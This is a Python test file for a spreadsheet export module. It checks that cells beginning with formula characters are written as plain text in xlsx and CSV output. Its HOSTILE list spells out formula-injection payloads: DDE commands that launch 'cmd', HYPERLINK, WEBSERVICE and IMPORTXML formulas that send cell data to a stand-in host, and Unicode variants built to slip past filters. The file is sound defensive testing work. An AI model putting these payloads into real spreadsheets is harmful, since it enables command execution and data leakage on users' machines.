"""Attack class 6: a cell that people take away is never a formula, whatever it begins with."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tongtang.exchange.parcels.sheets import FORMULA_STARTS, clean, csv_text, is_dangerous, xlsx

HOSTILE = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"点此")',
    '=WEBSERVICE("http://x")',
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "−1+1",
    "|cmd",
    "%0A=1",
    '="a",=1+1',
    '=1+1","=2+2',
]


def cells_of(data: bytes) -> list[object]:
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2) for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_text_in_a_workbook(text: str) -> None:
    assert is_dangerous(text)
    (cell,) = cells_of(xlsx("名册", ["姓名"], [[text]]))
    assert cell.data_type == "s"
    assert cell.quotePrefix


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_led_by_an_apostrophe_in_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_text(["a"], [[text]]).removeprefix("\ufeff"), newline="")))
    assert rows[1] == [f"'{clean(text)}"]


@settings(deadline=None)
@given(st.text(max_size=40))
def test_no_text_at_all_becomes_a_formula(text: str) -> None:
    found = [cell for cell in cells_of(xlsx("x", ["a"], [[text, "x"]])) if cell.column == 1 and cell.value is not None]
    assert all(cell.data_type == "s" for cell in found)
    written = csv_text(["a"], [[text]]).removeprefix("\ufeff")
    first = list(csv.reader(io.StringIO(written, newline="")))[1:]
    assert all(row[0][:1] not in FORMULA_STARTS for row in first if row and row[0])


def test_numbers_and_dates_keep_their_type() -> None:
    from datetime import date

    number, day, nothing, word = cells_of(xlsx("x", ["a", "b", "c", "d"], [[3, date(2026, 3, 2), None, "王小明"]]))
    assert (number.value, day.value.date(), nothing.value, word.value) == (3, date(2026, 3, 2), None, "王小明")
    assert not word.quotePrefix
